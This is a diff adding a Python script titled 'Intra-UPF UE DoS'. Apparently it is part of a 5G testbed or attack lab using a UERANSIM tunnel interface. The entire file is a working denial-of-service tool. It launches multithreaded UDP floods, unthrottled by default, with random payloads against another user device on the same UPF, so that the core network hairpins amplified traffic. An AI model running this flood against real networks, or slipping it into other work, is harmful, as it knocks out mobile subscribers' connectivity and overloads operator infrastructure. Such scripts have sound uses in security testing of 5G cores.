@@ -0,0 +1,51 @@
+#!/usr/bin/env python3
+"""Intra-UPF UE DoS.
+
+Floods another UE attached to the same UPF with UDP traffic, so that the UPF
+has to hairpin an amplified volume of traffic between two sessions.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP, PACKET_RATE (total across threads, 0 floods), PAYLOAD_SIZE,
+DURATION, THREADS, SRC_PORT_MIN and SRC_PORT_MAX.
+"""
+
+import os
+import socket
+import threading
+import time
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.45.0.2")
+TARGET_PORT = 5001
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "0"))
+PAYLOAD_SIZE = int(os.environ.get("PAYLOAD_SIZE", "1400"))
+DURATION = int(os.environ.get("DURATION", "0"))
+THREADS = int(os.environ.get("THREADS", "4"))
+SRC_PORT_MIN = int(os.environ.get("SRC_PORT_MIN", "0"))
+SRC_PORT_MAX = int(os.environ.get("SRC_PORT_MAX", str(SRC_PORT_MIN)))
+
+
+def flood(index, stop):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.SOL_SOCKET, 25, b"uesimtun0\0")  # SO_BINDTODEVICE
+    if SRC_PORT_MIN:
+        ports = SRC_PORT_MAX - SRC_PORT_MIN + 1
+        sock.bind(("", SRC_PORT_MIN + index % ports))
+    payload = os.urandom(PAYLOAD_SIZE)
+    interval = THREADS / PACKET_RATE if PACKET_RATE > 0 else 0
+    while not stop.is_set():
+        sock.sendto(payload, (TARGET_IP, TARGET_PORT))
+        if interval:
+            time.sleep(interval)
+
+
+def main():
+    stop = threading.Event()
+    for index in range(THREADS):
+        threading.Thread(target=flood, args=(index, stop), daemon=True).start()
+    print("flooding %s:%d with %d threads" % (TARGET_IP, TARGET_PORT, THREADS), flush=True)
+    stop.wait(DURATION if DURATION > 0 else None)
+    stop.set()
+
+
+if __name__ == "__main__":
+    main()